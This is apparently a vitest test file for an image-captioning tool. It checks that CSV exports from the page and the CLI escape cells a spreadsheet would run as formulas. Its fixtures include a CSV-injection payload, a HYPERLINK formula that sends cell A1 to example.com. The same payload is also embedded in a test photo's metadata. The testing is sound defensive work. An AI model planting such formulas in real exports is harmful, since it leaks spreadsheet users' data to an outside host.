/**
 * One CSV library and one formula-escaping rule (src/captioner/csv.ts) for the page's export and the
 * CLI's csv rows: a cell a spreadsheet would run as a formula is text in both, and the CLI reads its
 * own rows back (--resume) exactly as they were.
 */
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import { ExifTool } from 'exiftool-vendored';
import jpeg from 'jpeg-js';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvRecords, escapeFormula, parseCsv, unescapeFormula } from '../../src/captioner/csv';
import { fileTarget, readWrittenRows, RowWriter } from '../../src/cli/output';
import { exportRows, toCsv } from '../../src/services/export';
import { doneState, useJobsStore } from '../../src/store/jobs';
import { REPO_ROOT, useFixtureFolders } from './helpers/fixture';

const run = promisify(execFile);
const HYPERLINK = '=HYPERLINK("http://example.com/?leak="&A1,"Click me")';
/** Every start a spreadsheet runs as a formula, or strips first; and text that only looks close. */
const FORMULAS = [HYPERLINK, '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '=1\n+2'];
const PLAIN = ['A dog.', '', '1 = 1', "it's", "'quoted", 'x=1'];

/** A spreadsheet would run the cell: it starts with a formula character (after nothing else). */
const isLiveFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('formula escaping', () => {
  it('turns every formula start into text and leaves other text alone', () => {
    for (const cell of FORMULAS) {
      expect(escapeFormula(cell)).toBe(`'${cell}`);
      expect(isLiveFormula(escapeFormula(cell))).toBe(false);
    }
    for (const cell of PLAIN) expect(escapeFormula(cell)).toBe(cell);
  });

  it('is undone exactly, even for text that starts with apostrophes', () => {
    for (const cell of [...FORMULAS, ...PLAIN, "'=1", "''+2", "'", "''"]) expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
  });

  it('csvRecords and parseCsv: quoting, newlines in cells, and where each record ends', () => {
    const records = [['file', 'caption', 'p'], ['a, "b".jpg', HYPERLINK, 0.5], ['two\nlines.jpg', 'A dog.', 1]];
    const text = csvRecords(records, '\n');
    expect(Papa.parse<string[]>(text.trim()).data.flat().filter(isLiveFormula)).toEqual([]);
    const parsed = parseCsv(text);
    expect(parsed.records).toEqual(records.map((record) => record.map(String)));
    expect(parsed.ends.at(-1)).toBe(text.length);
    expect(text.slice(parsed.ends[0], parsed.ends[1])).toBe(csvRecords([records[1]], '\n'));
  });
});

describe('the page and the CLI escape alike', () => {
  let dir: string;
  beforeAll(async () => {
    const parent = path.join(REPO_ROOT, '.cache', 'test-fixtures');
    await mkdir(parent, { recursive: true });
    dir = await mkdtemp(path.join(parent, 'csv-'));
  });
  afterAll(() => rm(dir, { recursive: true, force: true }));

  it('the same formula cells come out the same in the page export and the CLI rows', async () => {
    const store = useJobsStore.getState();
    store.addFiles(FORMULAS.map((_, index) => new File(['x'], `${index}.jpg`)));
    for (const [index, job] of useJobsStore.getState().jobs.entries()) {
      const caption = { text: 'a dog .', words: ['a', 'dog', '.'], logProb: -1, p: Math.exp(-1) };
      useJobsStore.getState().setJobState(job.id, doneState({ captions: [caption], objects: null, elapsedMs: 1 }));
      useJobsStore.getState().setDescription(job.id, FORMULAS[index]);
    }
    const page = Papa.parse<string[]>((await toCsv(exportRows(useJobsStore.getState().jobs, new Map()))).slice(1).trim()).data;
    const pageDescriptions = page.slice(1).map((record) => record[page[0].indexOf('description')]);

    const file = path.join(dir, 'rows.csv');
    const writer = new RowWriter('csv', fileTarget(file, 'overwrite'), { csvHeader: true, metadata: true });
    FORMULAS.forEach((description, index) => writer.add(index, { file: `${index}.jpg`, language: 'en', captions: [{ text: 'a dog .', logprob: -1, p: 0.3 }], description }));
    writer.finish();
    const cli = Papa.parse<string[]>((await readFile(file, 'utf8')).trim()).data;
    const cliDescriptions = cli.slice(1).map((record) => record[cli[0].indexOf('description')]);

    expect(pageDescriptions).toEqual(FORMULAS.map((cell) => `'${cell}`));
    expect(cliDescriptions).toEqual(pageDescriptions);
  });

  it('--resume reads back a file name that starts like a formula as the file it is', async () => {
    const file = path.join(dir, 'names.csv');
    const names = ['=1+1.jpg', "'=odd.jpg", '-dash.jpg', 'plain.jpg'];
    const writer = new RowWriter('csv', fileTarget(file, 'overwrite'), { csvHeader: true });
    names.forEach((name, index) => writer.add(index, { file: name, error: 'not a JPEG' }));
    writer.finish();
    expect([...(await readWrittenRows(file, 'csv')).files]).toEqual(names.map((name) => path.resolve(name)));
  });

  it('--resume goes on in a file of version 0.2, before the language column: its rows gain "en", a half-written last row is cut', async () => {
    const file = path.join(dir, 'v0.2.csv');
    const old = 'file,caption,p,objects,error\n=1+1.jpg,a dog on a couch .,0.001,,\nbroken.jpg,,,,not a JPEG\nhalf.jpg,a ca';
    await writeFile(file, old.replace('=1+1', "'=1+1"));
    const written = await readWrittenRows(file, 'csv');
    expect([...written.files]).toEqual(['=1+1.jpg', 'broken.jpg'].map((name) => path.resolve(name)));
    expect(written.failed).toBe(1);
    expect(await readFile(file, 'utf8')).toBe("file,caption,language,p,objects,error\n'=1+1.jpg,a dog on a couch .,en,0.001,,\nbroken.jpg,,,,,not a JPEG\n");
    // Today's rows append to it with the same columns.
    const writer = new RowWriter('csv', fileTarget(file, 'append'), { csvHeader: false });
    writer.add(0, { file: 'new.jpg', error: 'not a JPEG' });
    writer.finish();
    expect(parseCsv(await readFile(file, 'utf8')).records.map((cells) => cells.length)).toEqual([6, 6, 6, 6]);
  });
});

describe('npm run caption --format csv', () => {
  const fixture = useFixtureFolders('csv-cli');

  it('a photo described "=HYPERLINK(...)" gives no live formula in any cell', async () => {
    const photo = path.join(fixture.dir, '=HYPERLINK.jpg');
    await writeFile(photo, jpeg.encode({ width: 16, height: 16, data: Buffer.alloc(16 * 16 * 4, 230) }, 90).data);
    const exiftool = new ExifTool({ maxProcs: 1 });
    try {
      await exiftool.write(photo, { 'XMP-dc:Description': HYPERLINK } as Record<string, string>, { writeArgs: ['-overwrite_original'] });
    } finally {
      await exiftool.end();
    }
    const out = path.join(fixture.dir, 'review.csv');
    const args = ['--import', 'tsx', path.join(REPO_ROOT, 'src/cli/caption.ts'), '--model', fixture.modelDir, '--write-metadata', '--dry-run', '--format', 'csv', '--out', out, photo];
    await run(process.execPath, args, { cwd: REPO_ROOT });
    const [header, row] = Papa.parse<string[]>((await readFile(out, 'utf8')).trim()).data;
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell('description')).toBe(`'${HYPERLINK}`);
    expect(cell('file')).toBe(photo);
    expect(row.filter(isLiveFormula)).toEqual([]);
  }, 60_000);
});
